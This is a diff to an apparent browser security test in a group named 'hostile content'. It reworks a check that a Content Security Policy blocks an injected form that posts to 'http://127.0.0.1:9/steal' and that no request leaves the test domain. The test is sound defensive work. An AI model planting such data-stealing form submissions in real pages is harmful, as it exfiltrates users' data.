@@ -31,19 +31,16 @@ test.group('Browser: hostile content', (group) => {
         if (!request.url().includes('undersign.test')) outside.push(request.url())
       })
       await visit(page, siteUrl('/faq'))
-      const violation = await page.evaluate(
-        () =>
-          new Promise<string>((resolve) => {
-            document.addEventListener('securitypolicyviolation', (event) =>
-              resolve(event.effectiveDirective)
-            )
-            const form = document.createElement('form')
-            form.method = 'post'
-            form.action = 'http://127.0.0.1:9/steal'
-            document.body.append(form)
-            form.submit()
-          })
-      )
+      const violation = await page.evaluate(`new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) =>
+          resolve(event.effectiveDirective)
+        )
+        const form = document.createElement('form')
+        form.method = 'post'
+        form.action = 'http://127.0.0.1:9/steal'
+        document.body.append(form)
+        form.submit()
+      })`)
       assert.equal(violation, 'form-action')
       assert.deepEqual(outside, [])
     })
